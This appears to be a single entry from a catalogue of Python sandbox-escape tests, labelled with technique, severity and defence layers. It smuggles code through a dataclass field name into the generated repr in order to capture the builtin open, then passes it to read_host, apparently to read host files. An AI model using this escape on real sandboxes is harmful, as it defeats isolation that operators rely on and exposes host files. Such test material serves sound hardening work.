# technique: a data class is made of text, and its field names are not looked at
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import dataclasses
    found = []

    class Holder:
        __module__ = "json"
        __annotations__ = {'{self.keep(open)}"#': int}
        keep = found.append
    repr(dataclasses.dataclass(init=False, eq=False)(Holder)())
    return found[0]

import json
read_host(trick)
